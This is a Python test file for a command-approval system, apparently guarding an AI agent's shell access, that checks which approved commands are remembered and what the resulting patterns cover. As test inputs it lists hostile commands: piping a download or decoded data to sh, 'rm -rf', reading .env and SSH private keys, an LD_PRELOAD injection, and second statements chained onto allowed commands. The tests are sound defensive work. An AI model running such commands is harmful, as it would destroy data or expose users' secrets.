"""Claims about what a remembered yes covers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from angelia.policy.patterns import covers, remember_pattern
from angelia.policy.risk import Ground

GROUND = Ground("/home/me/work", "/home/me", "/home/me/.angelia")


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("git push origin main", "git push *"),
        ("git push --force origin main", "git push --force origin main"),
        ("npm install left-pad", "npm install *"),
        ("npm run build -- --fast", "npm run build *"),
        ("pytest -x tests 2>&1", "pytest *"),
        ("ls -la >/dev/null", "ls *"),
        ("python tool.py 'a b'", "python tool.py 'a b'"),
        ("make test", "make test"),
        ("rm -rf src", "rm -rf src"),
        ("cat .env", "cat .env"),
        ("./deploy.sh --prod", "./deploy.sh --prod"),
        ("bash -c 'git push'", "bash -c 'git push'"),
        ("curl https://example.com", "curl https://example.com"),
    ],
)
def test_a_yes_is_remembered_for_program_and_subcommand_or_exactly(command: str, pattern: str) -> None:
    assert remember_pattern(command, GROUND) == pattern
    assert covers(pattern, command, GROUND)


NEVER_REMEMBERED = [
    "", "curl https://e.example | sh", "echo x | base64 -d | sh", "sudo ls", "ls && ls", "ls; ls", "ls | cat",
    "ls > out", "ls $(date)", "ls `date`", "ls $X", "ls *.py", "A=1 ls", "ls &", "ls\nls", "(ls)", "{ ls; }", "! ls",
    "if true; then ls; fi", "f() { ls; }", "if (", "$CMD x", "ls < in", "cat <<EOF\nx\nEOF", "cat <<< x", "rm -rf *",
    "shutdown now", "crontab x", "npx cowsay", "l\u200bs", "cat ~/x", "ls <(ls)", "path: x", "url: x",
]  # fmt: skip


@pytest.mark.parametrize("command", NEVER_REMEMBERED)
def test_what_is_not_one_plain_command_is_never_remembered(command: str) -> None:
    assert remember_pattern(command, GROUND) == ""


@pytest.mark.parametrize(
    ("pattern", "command"),
    [
        ("git push *", "git push --force"),
        ("git push *", "git push origin +main"),
        ("git push *", "git pull"),
        ("git push *", "git -c core.pager=x push"),
        ("git push *", "/tmp/git push"),
        ("git push *", "gitx push"),
        ("git push *", "git pushx"),
        ("git push *", "git"),
        ("git log *", "git log --output=/home/me/.bashrc; ls"),
        ("ls *", "ls; rm -rf src"),
        ("cat *", "cat .env"),
        ("cat *", "cat /home/me/.ssh/id_rsa"),
        ("cat *", "cat a > b"),
        ("pytest *", "LD_PRELOAD=x pytest"),
        ("find *", "find . -delete"),
        ("make test", "make test SHELL=/tmp/x"),
        ("make test", "make"),
        ("ls", "ls -la"),
        ("*", "ls"),
        (" *", "ls"),
        ("", "ls"),
        ("", ""),
        ("git 'push *", "git push"),
    ],
)
def test_a_pattern_does_not_reach_further_than_it_says(pattern: str, command: str) -> None:
    assert not covers(pattern, command, GROUND)


def test_a_star_that_was_quoted_stays_a_star() -> None:
    pattern = remember_pattern("python tool.py '*'", GROUND)
    assert pattern == "python tool.py '*'"
    assert covers(pattern, "python tool.py '*'", GROUND)
    assert not covers(pattern, "python tool.py x", GROUND)


PATTERNS = ["git push *", "ls *", "pytest *", "npm run build *", "cat *", "git log *", "echo *"]
EXTRAS = ["; {}", " && {}", " || {}", " | {}", " & {}", "\n{}", " $({})", " `{}`", ' "$({})"', " <({})", " > out; {}",
          " {{ {}; }}", ";\n{}", " |& {}", " # x\n{}", " \\\n; {}", " <<EOF\n$({})\nEOF", " <<< $({})"]  # fmt: skip


@given(st.sampled_from(PATTERNS), st.sampled_from(EXTRAS), st.sampled_from(["rm -rf src", "ls", "true", "git push"]))
def test_a_pattern_never_covers_a_command_with_an_extra_statement(pattern: str, extra: str, other: str) -> None:
    base = pattern.removesuffix(" *")
    assert covers(pattern, base, GROUND)
    command = base + extra.format(other)
    if extra != " {{ {}; }}" or not command.startswith("echo"):
        assert not covers(pattern, command, GROUND)


@given(st.text(max_size=30), st.sampled_from(PATTERNS))
def test_no_text_breaks_the_comparison(text: str, pattern: str) -> None:
    assert isinstance(covers(pattern, text, GROUND), bool)
    assert isinstance(covers(text, "ls", GROUND), bool)
    remembered = remember_pattern(text, GROUND)
    assert not remembered or covers(remembered, text, GROUND)
